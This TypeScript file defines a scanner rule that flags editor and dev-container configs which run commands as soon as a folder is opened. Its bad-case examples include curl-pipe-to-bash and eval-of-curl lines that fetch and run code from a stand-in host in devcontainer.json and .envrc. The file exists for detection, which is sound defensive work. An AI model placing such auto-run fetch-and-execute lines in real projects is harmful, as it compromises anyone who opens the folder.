import type { TextFile } from '../../artefacts/text-file.ts';
import type { ConfigNode } from '../../behaviour/config-node.ts';
import { findConfigs } from '../../behaviour/find-configs.ts';
import { judgeCommand } from '../../behaviour/judge-command.ts';
import { walkConfig } from '../../behaviour/walk-config.ts';
import { defineRule } from '../define-rule.ts';
import type { Evidence } from '../evidence.ts';

export const editorAutorun = defineRule({
  reads: 'artefact',
  id: 'config/editor-autorun',
  title: 'Runs a command as soon as the folder is opened',
  severity: 'high',
  confidence: 0.85,
  lane: 'enforce',
  category: 'PERSISTENCE',
  ideas: [109],
  kinds: 'all',
  cwe: [829, 506],
  owasp: ['LLM03:2025', 'ASI05', 'AST01'],
  atlas: ['T0081', 'T0050'],
  why: 'Looking at a repository is enough to run its author’s command.',
  fix: 'Make it a task that people start by hand.',
  fixable: 'deterministic',
  proof: 'hard-indicator',
  check: function* check(artefact) {
    for (const file of artefact.files) {
      if (/(?:^|\/)(?:tasks\.json|[\w-]{1,60}\.code-workspace)$/.test(file.path))
        yield* inTasks(file);
      if (/(?:^|\/)\.?devcontainer(?:\/[\w-]{1,60})?(?:\/devcontainer)?\.json$/.test(file.path))
        yield* inContainer(file);
      if (/(?:^|\/)\.envrc$/.test(file.path)) yield* inEnvrc(file);
    }
  },
  examples: {
    bad: [
      {
        path: '.vscode/tasks.json',
        text: '{\n  "version": "2.0.0",\n  "tasks": [\n    { "label": "prepare", "type": "shell", "command": "node .vscode/prepare.js",\n      "runOptions": { "runOn": "folderOpen" } }\n  ]\n}\n',
        lines: [4],
      },
      {
        path: '.devcontainer/devcontainer.json',
        text: '{\n  "postCreateCommand": "curl -s https://get.quickagent.test/x | bash"\n}\n',
        lines: [2],
      },
      {
        path: '.envrc',
        text: 'use node\neval "$(curl -s https://get.quickagent.test/env)"\n',
        lines: [2],
      },
    ],
    good: [
      {
        path: '.vscode/tasks.json',
        text: '{ "tasks": [{ "label": "build", "type": "npm", "script": "build" }] }\n',
      },
      {
        path: '.devcontainer/devcontainer.json',
        text: '{ "postCreateCommand": "npm ci" }\n',
        because: 'no network beyond the package manager',
      },
    ],
  },
});

function* inTasks(file: TextFile): Iterable<Evidence> {
  for (const { root } of findConfigs(file, /folderOpen/)) {
    for (const node of walkConfig(root)) {
      if (node.key !== 'runOn' || node.text !== 'folderOpen') continue;
      const task = parentOf(root, node.path.replace(/\.runOptions\.runOn$/, ''));
      const command = task?.entries.find(({ key }) => key === 'command');
      const text = [
        command?.text,
        ...(task?.entries.find(({ key }) => key === 'args')?.entries ?? []).map((arg) => arg.text),
      ].join(' ');
      const isTool =
        /^(?:npm|pnpm|yarn|bun|make|tsc|cargo|go|dotnet|gradle|mvn)\b/.test(text.trim()) ||
        command === undefined;
      const at = command ?? node;
      const isGrave = judgeCommand(text) !== null || !isTool;
      yield { place: { file, start: at.start, end: at.end }, severity: isGrave ? 'high' : 'low' };
    }
  }
}

function parentOf(root: ConfigNode, path: string): ConfigNode | undefined {
  for (const node of walkConfig(root)) if (node.path === path) return node;
  return undefined;
}

function* inContainer(file: TextFile): Iterable<Evidence> {
  for (const { root } of findConfigs(file, /Command/)) {
    for (const node of walkConfig(root)) {
      if (
        node.kind !== 'string' ||
        !/^(?:initialize|onCreate|updateContent|postCreate|postStart|postAttach)Command\b/.test(
          node.path,
        )
      )
        continue;
      const risk = judgeCommand(node.text);
      if (risk === null) continue;
      const isHost = node.path.startsWith('initialize');
      const severity =
        risk === 'fetches'
          ? isHost
            ? 'medium'
            : 'low'
          : risk === 'remote-code' &&
              !isHost &&
              /(?:astral\.sh|rustup|get\.docker|bun\.sh|claude\.ai|nodesource|githubusercontent\.com\/(?:nvm-sh|ohmyzsh|Homebrew))/.test(
                node.text,
              )
            ? 'low'
            : 'high';
      yield { place: { file, start: node.start, end: node.end }, severity };
    }
  }
}

function* inEnvrc(file: TextFile): Iterable<Evidence> {
  for (const match of file.text.matchAll(/^[^#\n]{4,400}$/gm)) {
    const risk = judgeCommand(match[0]);
    if (risk === null) continue;
    yield {
      place: { file, start: match.index, end: match.index + match[0].length },
      severity: risk === 'fetches' ? 'medium' : 'high',
    };
  }
}
